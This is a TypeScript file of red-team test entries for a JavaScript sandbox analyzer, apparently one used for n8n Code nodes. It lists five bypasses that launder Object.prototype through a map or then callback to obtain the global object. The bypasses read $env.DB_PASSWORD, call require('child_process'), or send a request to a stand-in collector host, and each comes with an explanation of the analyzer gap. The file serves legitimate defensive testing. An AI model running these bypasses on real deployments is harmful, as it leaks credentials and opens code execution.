// Round 13 of the code-purity red team. Each entry was confirmed with ./n8n-sandbox.ts (default runner flags and hardened host; Node 20,
// and Node 24.21.0 where node24 is set) while analyzeJavaScript() reports nothing.
// One class: a built-in returned by a callback of a method called on a non-built-in receiver is not carried into the call result
// (callCapability() only carries unknown callback returns, or any when the callee is a built-in), so the built-in comes out clean.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND13: RedTeamBypass[] = [
  {
    "id": "launder/array-map-object-prototype-valueOf",
    "cls": "callback-return-builtin-launder",
    "code": "const [OP] = [1].map(() => Object.prototype);\nOP.zz = OP.valueOf;\nconst G = this.zz();\nreturn [{ json: { g: G, e: G.$env.DB_PASSWORD } }];",
    "why": "callCapability() folds what a callback returns into a call result only when that return is unknown (inputs.find(kind===\"unknown\")) or when the callee itself is a built-in; a built-in value (kind builtin, which is loose, so returning it from an arrow is not reported) returned by a callback of a method called on a receiver that is not a built-in ([1].map, items.map, a promise .then) gives ambient(), i.e. clean. So `[1].map(() => Object.prototype)` launders Object.prototype into an untracked value: writing it is no builtinWrite, and its members are plain data. Here Object.prototype.zz = Object.prototype.valueOf (a built-in write the analysis does not see); `this.zz()` reads a key the global object lacks (allowed, ambient) and calls it with the global object as receiver: valueOf returns this, so G is the global object, clean to the analysis; G.$env.DB_PASSWORD is read and G is returned."
  },
  {
    "id": "launder/array-map-object-prototype-valueOf-node24",
    "cls": "callback-return-builtin-launder",
    "code": "const [OP] = [1].map(() => Object.prototype);\nOP.zz = OP.valueOf;\nconst G = this.zz();\nreturn [{ json: { g: G, e: G.$env.DB_PASSWORD } }];",
    "node24": true,
    "why": "callCapability() folds what a callback returns into a call result only when that return is unknown (inputs.find(kind===\"unknown\")) or when the callee itself is a built-in; a built-in value (kind builtin, which is loose, so returning it from an arrow is not reported) returned by a callback of a method called on a receiver that is not a built-in ([1].map, items.map, a promise .then) gives ambient(), i.e. clean. So `[1].map(() => Object.prototype)` launders Object.prototype into an untracked value: writing it is no builtinWrite, and its members are plain data. Same as the first entry, confirmed on Node 24.21.0 as n8n 2.41.1 runs it."
  },
  {
    "id": "launder/promise-then-object-prototype-http",
    "cls": "callback-return-builtin-launder",
    "code": "const OP = await Promise.resolve(1).then(() => Object.prototype);\nOP.pick = OP.valueOf;\nconst G = globalThis.pick();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "callCapability() folds what a callback returns into a call result only when that return is unknown (inputs.find(kind===\"unknown\")) or when the callee itself is a built-in; a built-in value (kind builtin, which is loose, so returning it from an arrow is not reported) returned by a callback of a method called on a receiver that is not a built-in ([1].map, items.map, a promise .then) gives ambient(), i.e. clean. So `[1].map(() => Object.prototype)` launders Object.prototype into an untracked value: writing it is no builtinWrite, and its members are plain data. The laundering callback is a promise .then (receiver: what Promise.resolve(1) gives, ambient/clean); awaited, OP is Object.prototype; globalThis.pick() returns the global object and helpers.httpRequest is called."
  },
  {
    "id": "launder/items-map-object-require",
    "cls": "callback-return-builtin-launder",
    "code": "const rows = items.map(() => Object);\nconst O = rows[0];\nO.prototype.mine = O.prototype.valueOf;\nconst G = this.mine();\nconst cp = G.require('child_process');\nreturn [{ json: { ok: typeof cp } }];",
    "why": "callCapability() folds what a callback returns into a call result only when that return is unknown (inputs.find(kind===\"unknown\")) or when the callee itself is a built-in; a built-in value (kind builtin, which is loose, so returning it from an arrow is not reported) returned by a callback of a method called on a receiver that is not a built-in ([1].map, items.map, a promise .then) gives ambient(), i.e. clean. So `[1].map(() => Object.prototype)` launders Object.prototype into an untracked value: writing it is no builtinWrite, and its members are plain data. Launders Object itself through items.map; O.prototype.mine = O.prototype.valueOf, this.mine() is the global object, and G.require is called."
  },
  {
    "id": "launder/each-item-json-map-env",
    "cls": "callback-return-builtin-launder",
    "code": "const [OP] = [$json].map(() => Object.prototype);\nOP.me = OP.valueOf;\nconst G = this.me();\nreturn { json: { e: G.$env.DB_PASSWORD } };",
    "why": "callCapability() folds what a callback returns into a call result only when that return is unknown (inputs.find(kind===\"unknown\")) or when the callee itself is a built-in; a built-in value (kind builtin, which is loose, so returning it from an arrow is not reported) returned by a callback of a method called on a receiver that is not a built-in ([1].map, items.map, a promise .then) gives ambient(), i.e. clean. So `[1].map(() => Object.prototype)` launders Object.prototype into an untracked value: writing it is no builtinWrite, and its members are plain data. Run Once for Each Item: [$json].map(() => Object.prototype); the global object obtained with the valueOf trick reads $env.DB_PASSWORD (confirmed with mode runOnceForEachItem)."
  }
];

export const ROUND13_FALSE_POSITIVES: RedTeamFalsePositive[] = [];
